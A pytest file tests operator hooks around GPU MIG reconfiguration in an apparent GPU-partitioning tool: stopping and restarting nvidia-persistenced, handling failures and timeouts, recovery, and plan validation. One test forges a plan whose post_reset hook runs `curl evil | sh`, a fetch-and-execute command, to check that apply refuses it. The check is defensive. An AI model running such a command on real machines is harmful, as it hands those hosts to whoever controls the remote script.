"""Hooks (``global.hooks``, issue 14 item 2): the operator's commands around an apply.

On the simulator nvidia-persistenced holds the GPU, so enabling MIG (an A100 needs a
reset) is possible only because the pre_reset hook stops it (``aihow sim hold
--release``); post_reset starts it again, also when the apply fails after the reset and
rolls back, and ``aihow recover`` runs it when the apply died in between.
"""

from __future__ import annotations

import json
import time
from pathlib import Path

import pytest

from planner.apply.hooks import run_hook
from planner.apply.journal import read_journal
from planner.apply.results import PlanRefused
from planner.plan.model import load_plan
from planner.plan.render import render
from planner.sim.state import SimStore
from planner.vocab.plan import Hook, Hooks
from tests.apply.simhost import SimHost, config_text
from tests.clirun import AIHOW, aihow

G0 = "0000:17:00.0"
HOLDER = "nvidia-persistenced"


def _hold(host: SimHost, release: bool) -> list[str]:
    return [AIHOW, "sim", "hold", str(host.dir), "--gpu", G0, "--name", HOLDER,
            *(["--release"] if release else [])]


def _record(log: Path, phase: str) -> list[str]:
    """A hook that appends its phase and its AIHOW_* environment to ``log``."""
    return ["sh", "-c", f'echo "{phase} $(env | grep ^AIHOW_ | sort | tr "\\n" " ")" >> {log}']


def _config(path: Path, hooks: dict[str, list[dict[str, object]]]) -> Path:
    lines = ["  hooks:"] if hooks else []
    for phase, cmds in hooks.items():
        lines.append(f"    {phase}:")
        for cmd in cmds:
            lines.append(f"      - command: {json.dumps(cmd['command'])}")
            if "timeout" in cmd:
                lines.append(f"        timeout: {cmd['timeout']}")
    text = config_text({G0: "3g.20gb+3g.20gb"})
    path.write_text(text.replace("clusters:\n", "\n".join(lines) + "\nclusters:\n", 1))
    return path


def _held(host: SimHost) -> list[str]:
    state = SimStore(host.dir).read()
    return [h.name for g in state.gpus for h in g.holders]


@pytest.fixture
def held(tmp_path: Path) -> SimHost:
    """An A100 with MIG off, held open by nvidia-persistenced."""
    host = SimHost.create(tmp_path / "host", [("a100-40gb", G0, False)])
    aihow("sim", "hold", host.dir, "--gpu", G0, "--name", HOLDER, ok=True)
    return host


def _usual(host: SimHost, log: Path) -> dict[str, list[dict[str, object]]]:
    return {
        "pre_apply": [{"command": _record(log, "pre-apply")}],
        "pre_reset": [{"command": _record(log, "pre-reset")},
                      {"command": _hold(host, release=True), "timeout": 60}],
        "post_reset": [{"command": _hold(host, release=False), "timeout": 60},
                       {"command": _record(log, "post-reset")}],
        "post_apply": [{"command": _record(log, "post-apply")}],
        "on_failure": [{"command": _record(log, "on-failure")}],
    }


def _phases(log: Path) -> list[str]:
    return [line.split()[0] for line in log.read_text().splitlines()] if log.exists() else []


def _env(log: Path, phase: str) -> dict[str, str]:
    line = next(ln for ln in log.read_text().splitlines() if ln.startswith(phase + " "))
    return dict(part.split("=", 1) for part in line.split()[1:] if "=" in part)


def test_without_hooks_the_holder_blocks_the_reset(held: SimHost, tmp_path: Path) -> None:
    cfg = _config(tmp_path / "c.yaml", {})
    with pytest.raises(PlanRefused, match=f"held by process {HOLDER}"):
        held.apply(held.plan(cfg), cfg)
    assert _held(held) == [HOLDER]


def test_the_reset_succeeds_because_pre_reset_stopped_the_holder(held: SimHost,
                                                                  tmp_path: Path) -> None:
    log = tmp_path / "hooks.log"
    cfg = _config(tmp_path / "c.yaml", _usual(held, log))
    plan = held.plan(cfg)
    events: list[object] = []
    result = held.apply(plan, cfg, events=events)
    assert result.outcome == "applied", result
    assert held.layout()[G0][0] is True  # MIG on: the reset happened
    assert _held(held) == [HOLDER]  # post_reset started it again
    assert _phases(log) == ["pre-apply", "pre-reset", "post-reset", "post-apply"]
    env = _env(log, "pre-reset")
    assert env["AIHOW_RESET_GPUS"] == G0
    assert env["AIHOW_HOOK_PHASE"] == "pre-reset"
    assert env["AIHOW_HOST_URI"] == held.uri
    assert env["AIHOW_PLAN_SHA256"] == plan.plan_sha256
    assert env["AIHOW_UPDATE"] == "1" and env["AIHOW_CREATE"] == str(plan.summary["create"])
    assert _env(log, "post-reset")["AIHOW_OUTCOME"] == "applied"
    assert _env(log, "post-apply")["AIHOW_GENERATION"] == str(result.generation.number)
    assert [r.name for r in result.hooks] == ["pre-apply[0]", "pre-reset[0]", "pre-reset[1]",
                                              "post-reset[0]", "post-reset[1]", "post-apply[0]"]
    assert all(r.ok for r in result.hooks)
    kinds = [e.type for e in events if e.type.startswith("hook-")]  # type: ignore[attr-defined]
    assert kinds == ["hook-start", "hook-done"] * 6
    # the journal keeps each hook that ran while it was open
    journal = read_journal(next((held.state_dir / "journals").glob("*-applied.jsonl")))
    hooks = [(r["phase"], r["index"], r["status"]) for r in journal.records
             if r["type"] == "hook"]
    assert ("pre-reset", 1, "ok") in hooks and ("post-reset", 0, "ok") in hooks
    assert not any(p == "post-apply" for p, _, _ in hooks)  # after the journal closed


def test_post_reset_restarts_the_holder_when_the_apply_fails_after_the_reset(
        held: SimHost, tmp_path: Path) -> None:
    log = tmp_path / "hooks.log"
    cfg = _config(tmp_path / "c.yaml", _usual(held, log))
    plan = held.plan(cfg)
    start = held.fingerprint(cfg)
    # the second GPU instance fails: MIG mode was already on (after the reset)
    aihow("sim", "fail", held.dir, "--op", "nvmlDeviceCreateGpuInstanceWithPlacement",
          "--at", "2", ok=True)
    result = held.apply(plan, cfg)
    assert result.outcome == "rolled-back", result
    assert result.back_at_start, result.resource_states  # the holder counts: it is back
    assert held.fingerprint(cfg) == start
    assert held.layout()[G0][0] is False
    assert _held(held) == [HOLDER]
    assert _phases(log) == ["pre-apply", "pre-reset", "post-reset", "on-failure"]
    assert _env(log, "post-reset")["AIHOW_OUTCOME"] == "failed"
    assert _env(log, "on-failure")["AIHOW_OUTCOME"] == "rolled-back"


def test_a_failing_pre_hook_stops_the_apply_before_any_change(held: SimHost,
                                                               tmp_path: Path) -> None:
    log = tmp_path / "hooks.log"
    hooks = _usual(held, log)
    hooks["pre_reset"].append({"command": ["sh", "-c", "echo kubelet will not stop; exit 3"]})
    cfg = _config(tmp_path / "c.yaml", hooks)
    plan_file = tmp_path / "plan.json"
    aihow("plan", cfg, "--host", held.uri, "-o", plan_file, ok=True)
    before = held.layout()
    res = aihow("apply", plan_file, "--auto-approve", "--allow-reset")
    assert res.returncode == 1, res.stdout + res.stderr
    assert "Traceback" not in res.stderr
    errors = [ln for ln in res.stderr.splitlines() if ln.startswith("error:")]
    assert len(errors) == 1 and len(res.stderr.strip().splitlines()) == 1, res.stderr
    assert "pre-reset[2] hook `sh -c" in errors[0] and "failed (exit 3)" in errors[0]
    assert "kubelet will not stop" in errors[0] and "nothing was changed" in errors[0]
    assert held.layout() == before
    assert _held(held) == [HOLDER]  # pre_reset[1] released it, post_reset restarted it
    assert _phases(log) == ["pre-apply", "pre-reset", "post-reset", "on-failure"]
    assert _env(log, "on-failure")["AIHOW_FAILED_HOOK"] == "pre-reset[2]"
    assert _env(log, "on-failure")["AIHOW_OUTCOME"] == "refused"
    assert not (held.state_dir / "journal.jsonl").exists()
    assert list((held.state_dir / "journals").glob("*-refused.jsonl"))


def test_a_hung_hook_is_killed_at_its_timeout_and_counts_as_failed(held: SimHost,
                                                                   tmp_path: Path) -> None:
    log = tmp_path / "hooks.log"
    hooks = _usual(held, log)
    # the child of the shell hangs too: the whole process group goes
    pid_file = tmp_path / "child.pid"
    hooks["pre_apply"] = [{"command": ["sh", "-c", f"sleep 60 & echo $! > {pid_file}; sleep 60"],
                           "timeout": 0.5}]
    cfg = _config(tmp_path / "c.yaml", hooks)
    started = time.monotonic()
    with pytest.raises(PlanRefused, match=r"pre-apply\[0\] hook .* timed out after 0.5s"):
        held.apply(held.plan(cfg), cfg)
    assert time.monotonic() - started < 30
    child = int(pid_file.read_text())
    deadline = time.monotonic() + 5  # killed; reaped by init
    while Path(f"/proc/{child}").exists() and "Z" not in _proc_state(child):
        assert time.monotonic() < deadline, f"the hook's child {child} still runs"
        time.sleep(0.05)
    assert _phases(log) == ["on-failure"]  # no reset was prepared, so none to undo
    assert held.layout()[G0][0] is False and _held(held) == [HOLDER]


def _proc_state(pid: int) -> str:
    try:
        return Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except OSError:
        return "gone"


def test_run_hook_reports_a_program_that_cannot_start() -> None:
    run = run_hook(Hook(command=("/nonexistent/stop-dcgm",), timeout=5), {}, "pre_reset", 0)
    assert not run.ok and run.returncode is None
    assert run.describe().startswith("pre-reset[0] hook `/nonexistent/stop-dcgm` could not "
                                     "be started")


def test_recover_runs_the_post_reset_the_dead_apply_owed(held: SimHost, tmp_path: Path) -> None:
    log = tmp_path / "hooks.log"
    cfg = _config(tmp_path / "c.yaml", _usual(held, log))
    plan_file = tmp_path / "plan.json"
    aihow("plan", cfg, "--host", held.uri, "-o", plan_file, ok=True)
    res = aihow("apply", plan_file, "--auto-approve", "--allow-reset",
                env={"AIHOW_TEST_CRASH_AFTER": "2"})
    assert res.returncode == -9 or res.returncode == 137, res.stderr
    assert _held(held) == []  # killed between pre_reset and post_reset
    rec = aihow("recover", "--host", held.uri, "--format", "json")
    assert rec.returncode == 0, rec.stdout + rec.stderr
    lines = [json.loads(ln) for ln in rec.stdout.splitlines()]
    result = lines[-1]
    assert result["type"] == "result" and result["outcome"] == "recovered-back"
    assert result["ok"] is True
    assert [(h["phase"], h["status"]) for h in result["hooks"]] == [("post-reset", "ok"),
                                                                     ("post-reset", "ok")]
    assert _held(held) == [HOLDER]
    assert _phases(log)[-1] == "post-reset"
    assert _env(log, "post-reset")["AIHOW_OUTCOME"] == "recovered-back"
    # nothing is owed any more: a second recover has nothing to do
    assert "nothing" in aihow("recover", "--host", held.uri, ok=True).stdout.lower()


def test_json_events_carry_each_hook(held: SimHost, tmp_path: Path) -> None:
    log = tmp_path / "hooks.log"
    cfg = _config(tmp_path / "c.yaml", _usual(held, log))
    res = aihow("apply", cfg, "--host", held.uri, "--auto-approve", "--allow-reset",
                "--format", "json")
    assert res.returncode == 0, res.stdout + res.stderr
    lines = [json.loads(ln) for ln in res.stdout.splitlines()]
    assert lines[0]["type"] == "plan"
    assert lines[0]["hooks"]["pre_apply"] == [{"command": _record(log, "pre-apply"),
                                               "timeout": 60.0}]
    hooks = [ln for ln in lines if ln["type"].startswith("hook-")]
    assert [(h["type"], h["hook"]["phase"], h["hook"]["index"]) for h in hooks[:2]] == [
        ("hook-start", "pre-apply", 0), ("hook-done", "pre-apply", 0)]
    done = hooks[1]["hook"]
    assert done["status"] == "ok" and done["returncode"] == 0
    assert done["command"] == _record(log, "pre-apply") and done["timeout"] == 60.0
    result = lines[-1]
    assert result["type"] == "result" and result["outcome"] == "applied"
    assert [h["phase"] for h in result["hooks"]] == [
        "pre-apply", "pre-reset", "pre-reset", "post-reset", "post-reset", "post-apply"]
    assert _env(log, "pre-apply")["AIHOW_PLAN_FILE"] == ""  # a config, planned on the spot


def test_the_plan_shows_its_hooks_and_apply_refuses_hooks_the_config_lacks(
        held: SimHost, tmp_path: Path) -> None:
    log = tmp_path / "hooks.log"
    cfg = _config(tmp_path / "c.yaml", _usual(held, log))
    plan_file = tmp_path / "plan.json"
    aihow("plan", cfg, "--host", held.uri, "-o", plan_file, ok=True)
    plan = load_plan(plan_file)
    text, markdown = render(plan, "text"), render(plan, "markdown")
    for shown in (text, markdown):
        assert "pre-reset:" in shown and f"--name {HOLDER} --release  (timeout 60s)" in shown
    # a forged plan: another post_reset command, re-sealed with a correct digest
    forged = plan.model_copy(update={"hooks": plan.hooks.model_copy(update={
        "post_reset": (Hook(command=("sh", "-c", "curl evil | sh"), timeout=60.0),)})})
    bad = tmp_path / "forged.json"
    bad.write_text(forged.sealed().to_json())
    res = aihow("apply", bad, "--auto-approve", "--allow-reset")
    assert res.returncode == 1
    assert res.stderr.startswith("error: ") and "nothing was changed" in res.stderr
    assert "hooks.post_reset: the plan runs" in res.stderr and "curl evil" in res.stderr
    assert not log.exists() and _held(held) == [HOLDER]


def test_no_hooks_no_key_in_the_plan(held: SimHost, tmp_path: Path) -> None:
    cfg = _config(tmp_path / "c.yaml", {})
    plan = held.plan(cfg)
    assert plan.hooks == Hooks() and '"hooks"' not in plan.to_json()
    assert "Hooks" not in render(plan, "text") and "Hooks" not in render(plan, "markdown")


def test_hook_config_errors_name_file_line_and_column(tmp_path: Path) -> None:
    cfg = tmp_path / "c.yaml"
    text = config_text({G0: ""}).replace("clusters:\n", (
        "  hooks:\n"
        "    pre_reset:\n"
        "      - command: systemctl stop nvidia-persistenced\n"
        "      - command: [sh]\n"
        "        timeout: 0\n"
        "    pre_update: []\n"
        "clusters:\n"), 1)
    cfg.write_text(text)
    res = aihow("validate", cfg)
    assert res.returncode == 1 and "Traceback" not in res.stderr
    out = res.stdout + res.stderr
    assert f"{cfg}:11:18: global.hooks.pre_reset[0].command: give the command as a list" in out
    assert f"{cfg}:13:18: global.hooks.pre_reset[1].timeout:" in out
    assert f"{cfg}:14:5: global.hooks.pre_update: unknown key" in out


def test_a_plan_with_hooks_validates_against_the_shipped_schema(held: SimHost,
                                                                tmp_path: Path) -> None:
    import jsonschema

    from planner.plan.model import plan_schema

    cfg = _config(tmp_path / "c.yaml", _usual(held, tmp_path / "hooks.log"))
    data = json.loads(held.plan(cfg).to_json())
    jsonschema.validate(data, plan_schema())
    data["hooks"]["pre_reset"][0]["shell"] = "systemctl stop dcgm"
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate(data, plan_schema())


def test_reset_hooks_run_only_for_a_reset_and_no_hook_for_no_changes(tmp_path: Path) -> None:
    host = SimHost.create(tmp_path / "host", [("a100-40gb", G0, True)])  # MIG already on
    log = tmp_path / "hooks.log"
    cfg = _config(tmp_path / "c.yaml", _usual(host, log))
    plan = host.plan(cfg)
    assert plan.summary["needs_reset"] == 0 and plan.has_changes
    assert "pre-reset (not run: the plan resets no GPU):" in render(plan, "text")
    result = host.apply(plan, cfg)
    assert result.outcome == "applied", result
    assert _phases(log) == ["pre-apply", "post-apply"]
    assert _env(log, "pre-apply")["AIHOW_RESET_GPUS"] == ""
    again = host.plan(cfg)
    assert not again.has_changes
    assert "pre-apply (not run: the plan has no changes):" in render(again, "text")
    assert host.apply(again, cfg).outcome == "no-changes"
    assert _phases(log) == ["pre-apply", "post-apply"]  # nothing ran for no changes
